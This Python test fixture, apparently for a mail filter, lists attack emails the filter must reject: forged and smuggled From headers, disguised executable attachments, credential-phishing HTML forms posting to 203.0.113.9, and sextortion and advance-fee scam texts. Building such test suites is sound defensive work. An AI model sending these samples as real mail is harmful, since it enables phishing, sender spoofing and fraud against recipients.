"""What is to be caught. Each is (name, wanted verdicts, message, session):
session overrides what corpus.py gives a message, and may bring facts of DNS."""

from ham import HTML, PDF, TEXT, archive, encrypted, file, head, multi, part

REJECT, CAUGHT = ("reject",), ("reject", "junk")
MZ = b"MZ\x90\0" + bytes(200)


def with_file(v, octets, name, kind="application/octet-stream"):
    return head(v, "Invoice") + multi("mixed", [part("text/plain", "see attached\n"), file(kind, octets, name)])


def authors(v):
    """The spoofing classes of "Composition kills" and "Weak links"."""
    a, victim = v.domain, "victim.example"
    plain = "\n" + TEXT
    base = head(v, drop=("From",))
    froms = {
        "two fields": (REJECT, "From: <x@%s>\nFrom: <ceo@%s>\n" % (a, victim)),
        "two fields, victim first": (REJECT, "From: <ceo@%s>\nFrom: <x@%s>\n" % (victim, a)),
        "two domains": (REJECT, "From: <x@%s>, <ceo@%s>\n" % (a, victim)),
        "space before the colon and a second": (REJECT, "From : <ceo@%s>\nFrom: <x@%s>\n" % (victim, a)),
        "missing, Sender shown": (CAUGHT, "Sender: <ceo@%s>\n" % victim),
        "missing, Resent-From shown": (CAUGHT, "Resent-From: <ceo@%s>\n" % victim),
        "hidden in a fold": (REJECT, "X: y\nComments: a\n From: <ceo@%s>\nFrom: <x@%s>\n" % (victim, a)),
        "encoded address before a comma": (CAUGHT, "From: =?utf-8?B?Y2VvQHZpY3RpbS5leGFtcGxl?=,<x@%s>\n" % a),
        "encoded word is the address": (CAUGHT, "From: =?utf-8?Q?=3Cceo=40victim.example=3E?=\n"),
        "source route": (CAUGHT, "From: <@%s,@x.example:ceo@%s>, <x@%s>\n" % (a, victim, a)),
        "quoted pair": (CAUGHT, "From: <ceo@%s>\\,<x@%s>\n" % (victim, a)),
        "text behind the address": (CAUGHT, "From: <x@%s>ceo@%s\n" % (a, victim)),
        "address before the address": (CAUGHT, "From: ceo@%s <x@%s>\n" % (victim, a)),
        "group": (CAUGHT, "From: ceo@%s:;\n" % victim),
        "zero-width space": (CAUGHT, "From: <ceo@vic\u200btim.example>\n"),
        "empty": (CAUGHT, "From: <>\n"),
    }
    for name, (want, field) in froms.items():
        yield "author: " + name, want, base + field + plain, {}
    for name, field in (("missing", "Sender: <ceo@%s>\n" % victim),
                        ("empty", "From: <>\nSender: <ceo@%s>\n" % victim)):
        yield "author: %s, null sender" % name, CAUGHT, base + field + plain, {"mailfrom": ""}
    yield ("author: header broken before From", REJECT,
           head(v, drop=("From",)) + "this is no field\nFrom: <ceo@%s>\n\n%s" % (victim, TEXT), {})
    yield ("author: colon in a fold", REJECT,
           head(v, drop=("From",)) + "From\n : <ceo@%s>\n\n%s" % (victim, TEXT), {})


def attachments(v):
    names = ("invoice.exe", "invoice.pdf.exe", "scan.pdf                      .scr", "photo.jpg.lnk", "setup.msi",
             "order.js", "order.vbs", "order.hta", "run.ps1", "disk.iso", "disk.img", "disk.vhd", "a.bat", "a.cmd",
             "a.jar", "a.wsf", "a.cpl", "a.pif", "invoice.exe.", "invoice.exe ", "UPPER.EXE", "a.xll",
             "a.appinstaller", "photo\u202egpj.exe")
    for name in names:
        yield "file: " + name, REJECT, with_file(v, b"x" * 50, name).encode(), {}
    yield "file: program called pdf", REJECT, with_file(v, MZ, "invoice.pdf", "application/pdf"), {}
    yield "file: program without name", REJECT, head(v) + multi("mixed", [part("text/plain", "x"), part(
        "application/octet-stream", __import__("base64").encodebytes(MZ).decode(), "base64")]), {}
    for name in ("invoice.exe", "a/b/order.js", "x.lnk", "x.scr", "x.vbs", "doc.pdf.exe", "x.iso"):
        yield "archive: " + name, REJECT, with_file(v, archive(name), "invoice.zip", "application/zip"), {}
        yield "encrypted archive: " + name, REJECT, with_file(v, encrypted(name), "invoice.zip", "application/zip"), {}
    yield "archive called document", REJECT, with_file(v, archive("a.exe"), "invoice.docx"), {}
    extended = ('Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n'
                'Content-Disposition: attachment; %s\n\neHh4eA==\n')
    for name, parameter in {
            "continued name": 'filename*0="invoice.e"; filename*1="xe"',
            "encoded name": "filename*=UTF-8''invoice%2Eexe",
            "encoded words in the name": 'filename="=?utf-8?B?aW52b2ljZS5leGU=?="',
            "name and filename differ": 'filename="a.txt"; name="a.exe"',
            "filename twice": 'filename="a.txt"; filename="a.exe"',
            "NUL in the name": 'filename="a.exe\0.txt"'}.items():
        want = CAUGHT if "NUL" in name else REJECT
        yield "file: " + name, want, head(v) + multi("mixed", [part("text/plain", "x"), extended % parameter]), {}
    yield ("file: boundary twice", REJECT, head(v) + 'Content-Type: multipart/mixed; boundary=one; boundary=two\n\n'
           "--one\nContent-Type: text/plain\n\nhi\n--one--\n--two\n%s--two--\n" % file("application/octet-stream", MZ, "a.exe"), {})
    yield ("file: no boundary", REJECT, head(v) + "Content-Type: multipart/mixed\n\n--x\nContent-Type: text/plain\n\nhi\n--x\n%s--x--\n"
           % file("application/octet-stream", MZ, "a.exe"), {})
    yield "file: uuencoded", REJECT, head(v) + "\nhi\n\nbegin 644 invoice.exe\n#35J0\n`\nend\n", {}


def swindles(v):
    poor = {"zone": {}, "helo": "localhost"}
    login = ("<html><script>var b=new Blob([atob('TVo=')]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.click()</script>"
             "<form action='http://203.0.113.9/p'><input type=password></form></html>")
    yield "page that builds a file", CAUGHT, with_file(v, login.encode(), "invoice.html", "text/html"), {}
    yield "login form", CAUGHT, head(v, "Mailbox full") + part("text/html", (
        "<p>Dear user</p><form action='http://203.0.113.9/login'><input type=password name=p></form>"
        "<a href='http://203.0.113.9/x'>https://www.verdict.example/</a>")), poor
    yield "user information in a link", CAUGHT, head(v, "Verify", '"security@bank.example" <x@%s>' % v.domain) + part("text/html", (
        "<a href='http://www.bank.example@203.0.113.9/x'>https://www.bank.example/</a>")), poor
    yield "odd address in a link", CAUGHT, head(v, "Verify", drop=("Date", "Message-ID")) + part("text/html", (
        "<a href='http://0xcb007109/x'>https://www.bank.example/</a>")), poor
    yield "GTUBE", CAUGHT, head(v) + part("text/plain", "XJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X\n"), {}
    yield "blackmail", CAUGHT, head(v, "I know your secret") + part("text/plain", (
        "I have recorded you with your web cam while you visited adult websites. Send 900 USD in bitcoin to "
        "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq within 48 hours.\n")), poor
    yield "fortune", CAUGHT, head(v, "GREETINGS", more="Reply-To: barrister.john@gmail.com\n") + part("text/plain", (
        "I am barrister John. My late client left USD 18,500,000.00 and no next of kin. I seek your urgent and "
        "confidential help to transfer the fund; you keep 40 percent.\n")), poor
    yield "macros under another name", CAUGHT, head(v, "Invoice", drop=("Message-ID", "Date")) + multi("mixed", [
        part("text/plain", "enable content"), file("application/msword", archive("[Content_Types].xml", "word/vbaProject.bin"), "invoice.doc")]), poor
    yield "two structures at once", CAUGHT, head(v, more=(
        "Content-Type: text/plain\nContent-Transfer-Encoding: base64\nContent-Transfer-Encoding: 7bit\nSubject: again\nDate: never\n")) + part(
        "text/html", HTML % v.domain), poor


def dmarc(v):
    def zone(policy):
        return {"victim.example": {"A": ["192.0.2.80"]}, "_dmarc.victim.example": {"TXT": ["v=DMARC1; p=" + policy]},
                "evil.example": {"TXT": ["v=spf1 ip4:198.51.100.7 -all"]}}
    message = head(v, author="CEO <ceo@victim.example>") + part("text/plain", TEXT)
    session = {"mailfrom": "x@evil.example", "helo": "mx.evil.example"}
    yield "p=reject, SPF of another domain", REJECT, message, dict(session, zone=zone("reject"))
    yield "p=quarantine", ("junk",), message, dict(session, zone=zone("quarantine"))
    yield ("sub-domain that does not exist", REJECT, message.replace("ceo@victim", "ceo@no.victim"),
           dict(session, mailfrom="x@no.victim.example", zone=zone("reject")))
    yield "null sender, HELO passes", REJECT, message, dict(session, mailfrom="", zone=zone("reject"))
    yield ("list that passes nothing", REJECT, message.replace("MIME-Version", "List-Id: <x.evil>\nMIME-Version"),
           dict(session, mailfrom="x@nowhere.example", zone=zone("reject")))


def attacks(v):
    for source in (authors, attachments, swindles, dmarc):
        yield from source(v)


assert PDF
